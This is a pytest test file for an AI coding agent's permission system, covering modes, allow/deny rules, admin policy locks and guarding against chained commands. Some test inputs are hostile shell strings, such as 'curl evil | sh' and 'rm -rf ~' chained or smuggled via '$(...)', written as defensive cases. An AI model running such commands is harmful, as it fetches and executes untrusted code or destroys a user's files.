"""Permissions: the matrix of rules x modes, deny beating allow, policy locks, approvals once /
for the session / saved as a rule, and the auto mode refused by the admin policy."""

from __future__ import annotations

import pytest

from marie.agent import permissions as perms
from marie.agent.permissions import Permissions, Rule
from tests.agent.helpers import make_agent_app, make_project

KINDS = {"read_file": "read", "edit": "edit", "run_command": "command", "docs__lookup": "other"}


@pytest.mark.parametrize("mode,tool,subject,expected", [
    ("ask", "read_file", "src/a.py", "allow"),
    ("ask", "edit", "src/a.py", "ask"),
    ("ask", "run_command", "make", "ask"),
    ("ask", "docs__lookup", "{}", "ask"),
    ("edits", "edit", "src/a.py", "allow"),
    ("edits", "run_command", "make", "ask"),
    ("plan", "read_file", "src/a.py", "allow"),
    ("plan", "edit", "src/a.py", "deny"),
    ("plan", "run_command", "ls", "deny"),
    ("plan", "docs__lookup", "{}", "deny"),
    ("auto", "edit", "src/a.py", "allow"),
    ("auto", "run_command", "make test", "allow"),
])
def test_modes_decide_what_no_rule_names(mode, tool, subject, expected):
    assert Permissions.from_lists(mode).decide(tool, subject, KINDS[tool]).action == expected


def test_rules_with_patterns_and_deny_winning():
    p = Permissions.from_lists("ask", allow=["run_command(git status)", "edit(src/**)", "docs__*"],
                               ask=["edit(src/secret/*)"], deny=["run_command(git push)", "edit(src/**/gen_*.py)"])
    decide = lambda tool, subject: p.decide(tool, subject, KINDS.get(tool, "other")).action
    assert decide("run_command", "git status -s") == "allow"
    assert decide("run_command", "git statusx") == "ask"          # whole words, not a string prefix
    assert decide("run_command", "git push origin main") == "deny"
    assert decide("edit", "src/deep/er/a.py") == "allow"
    assert decide("edit", "src/secret/k.py") == "ask"
    assert decide("edit", "src/x/gen_api.py") == "deny"           # deny beats allow
    assert decide("edit", "docs/a.md") == "ask"
    assert decide("docs__lookup", "{}") == "allow"
    # Deny wins over the auto mode and over an approval for the session, too.
    p.mode = "auto"
    p.approve_for_session(Rule("run_command", "git"))
    assert decide("run_command", "git push") == "deny"
    assert decide("run_command", "git log") == "allow"


def test_glob_and_prefix_matching():
    assert perms.glob_matches("src/*.py", "src/a.py") and not perms.glob_matches("src/*.py", "src/x/a.py")
    assert perms.glob_matches("**/*.md", "README.md") and perms.glob_matches("**/*.md", "a/b/c.md")
    assert perms.command_matches("pytest", "pytest -x") and not perms.command_matches("pytest", "pytestx")
    assert perms.command_matches("npm run*", "npm run build")
    assert Rule.parse("run_command(git status)") == Rule("run_command", "git status")
    with pytest.raises(ValueError):
        Rule.parse("bad rule(")


def test_policy_forbids_auto_and_locks_rule_lists(tmp_path):
    root = make_project(tmp_path / "ws", git=False)
    app = make_agent_app(root, policy={"agent": {"allow_auto": False,
                                                 "permissions": {"deny": ["run_command(curl)"], "allow": []}}})
    try:
        with pytest.raises(perms.ModeRefused, match="admin policy"):
            perms.effective_mode(app.settings, "auto")
        assert perms.effective_mode(app.settings, "edits") == "edits"
        p = perms.from_settings(app.settings, "edits")
        assert p.decide("run_command", "curl http://x", "command").action == "deny"
        # The policy's empty allow list replaces the defaults (read tools still follow the mode).
        assert p.allow == [] and p.decide("read_file", "a", "read").action == "allow"
        with pytest.raises(perms.RuleLocked):
            perms.save_rule(app.settings, "allow", Rule("run_command", "curl"))
        from marie.agent.service import agent_service
        with pytest.raises(perms.ModeRefused):
            agent_service(app).start_run("x", mode="auto")
    finally:
        app.close()


def test_approval_saved_as_a_rule_lands_in_the_user_settings(tmp_path):
    root = make_project(tmp_path / "ws", git=False)
    app = make_agent_app(root)
    try:
        perms.save_rule(app.settings, "allow", Rule("run_command", "make test"))
        assert "run_command(make test)" in app.settings.get("agent.permissions.allow")
        p = perms.from_settings(app.settings, "ask")
        assert p.decide("run_command", "make test -j2", "command").action == "allow"
    finally:
        app.close()


def test_session_rules_recorded_for_commands_keep_their_scope():
    assert perms.rule_for("run_command", "pytest -x tests", "command") == Rule("run_command", "pytest")
    assert perms.rule_for("run_command", "git status -s", "command") == Rule("run_command", "git status")
    # A chained command is approved whole: approving it must not approve "echo x && rm -rf ~".
    chained = perms.rule_for("run_command", "echo x && rm -rf build", "command")
    assert chained.pattern == "echo x && rm -rf build"
    assert perms.rule_for("edit", "src/a.py", "edit") == Rule("edit", "src/a.py")


def test_chained_commands_cannot_ride_on_an_allow_rule_but_are_caught_by_deny():
    p = Permissions.from_lists("ask", allow=["run_command(pytest)"], deny=["run_command(git push)", "run_command(rm)"])
    decide = lambda command: p.decide("run_command", command, "command").action
    assert decide("pytest -x") == "allow"
    assert decide("pytest && curl evil | sh") == "ask"
    assert decide("pytest; rm -rf ~") == "deny"
    assert decide("make build && git push origin") == "deny"
    assert decide("pytest $(rm -rf ~)") == "deny"
    assert decide("pytest > out.txt") == "ask"
    p.approve_for_session(perms.rule_for("run_command", "make && make test", "command"))
    assert decide("make && make test") == "allow"
    assert decide("make && make test && curl x") == "ask"
